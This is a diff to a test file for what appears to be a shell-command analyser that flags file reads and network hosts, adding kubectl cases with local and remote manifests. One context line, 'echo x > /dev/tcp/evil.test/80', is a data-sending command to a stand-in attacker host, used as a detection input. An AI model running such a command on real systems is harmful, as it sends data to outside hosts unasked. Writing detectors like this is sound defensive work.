@@ -201,6 +201,9 @@ describe('reads', () => {
     ['gsutil cp a gs://b/c', ['/p/a (deep)']],
     ['docker cp a web:/b', ['/p/a (deep)']],
     ['docker cp web:/b a', []],
+    ['kubectl get -f a.yaml,.env -f -', ['/p/a.yaml,.env', '/p/a.yaml', '/p/.env']],
+    ["kubectl describe -f 'd/*.yaml'", ['/p/d/*.yaml', '/p/d/*.yaml (glob)']],
+    ['kubectl get -f https://a.invalid/b.yaml', []],
     ['kubectl cp a web:/b -n c', ['/p/a (deep)']],
     ['od -s a', ['/p/a']],
     ['od -e a', ['/p/a']],
@@ -280,6 +283,10 @@ describe('network', () => {
     ['echo x > /dev/tcp/evil.test/80', ['evil.test']],
     ['ssh h ls', []],
     ['xmllint http://h.test/a.xml', ['h.test']],
+    ['kubectl get --filename=https://a.invalid/b.yaml,c.yaml', ['a.invalid']],
+    ['kubectl rollout status -f http://a.invalid/b.yaml', ['a.invalid']],
+    ['kubectl apply --dry-run=client -f https://a.invalid/b.yaml', ['a.invalid']],
+    ['kubectl -f https://a.invalid/b.yaml get', ['a.invalid']],
   ])('%s', (command, hosts) => {
     const facts = analyse(command, context);
     expect(facts.network).toBe(true);
